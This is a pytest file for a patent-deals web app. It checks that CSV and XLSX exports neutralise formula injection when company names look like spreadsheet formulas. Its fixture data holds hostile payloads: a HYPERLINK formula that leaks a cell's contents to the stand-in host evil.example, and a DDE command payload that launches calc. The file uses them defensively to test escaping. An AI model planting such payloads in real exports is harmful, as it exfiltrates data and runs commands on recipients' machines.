"""Exports cannot carry formulas: a company named like a formula, taken into a deal, is written
as text in every CSV and XLSX a centre downloads (issue 14, item 1)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tests.conftest import post
from tests.test_deals import deal_form

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"打开详情")'
NAMES = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def evil_deals(app, client, auth, make, centre, centre_staff):
    year = date.today().year
    for n, name in enumerate(NAMES):
        make.org("enterprise", code=f"evil-{n}", name_zh=name, size_class="small")
        patent = make.patent(centre)
        auth.login(centre_staff.email)
        response = post(client, "/deals/new", deal_form(patent.id, f"evil-{n}", effective_date=f"{year}-03-01"))
        assert response.status_code == 302, response.get_data(as_text=True)[:500]
    return year


def _no_formula_cells(data: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("path", ["/metrics/centres/{code}/deals.xlsx", "/metrics/centres/{code}/figures.xlsx"])
def test_no_formula_cell_in_a_workbook(client, centre, evil_deals, path):
    response = client.get(path.format(code=centre.code) + f"?year={evil_deals}")
    assert response.status_code == 200
    texts = _no_formula_cells(response.data)
    assert EVIL in texts  # shown to the reader exactly as the company typed it


def test_no_cell_starts_like_a_formula_in_a_csv(client, centre, evil_deals):
    response = client.get(f"/metrics/centres/{centre.code}/deals.csv?year={evil_deals}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + EVIL in cells


def test_the_programme_workbook_has_no_formula(client, auth, admin, centre, evil_deals):
    auth.logout()
    auth.login(admin.email)
    response = client.get(f"/metrics/programme.xlsx?year={evil_deals}")
    assert response.status_code == 200
    _no_formula_cells(response.data)


def test_templates_stay_importable(client):
    for path in ("/help/import/patents-template.xlsx", "/help/import/patents-template.csv"):
        response = client.get(path)
        assert response.status_code == 200
        if path.endswith(".xlsx"):
            _no_formula_cells(response.data)
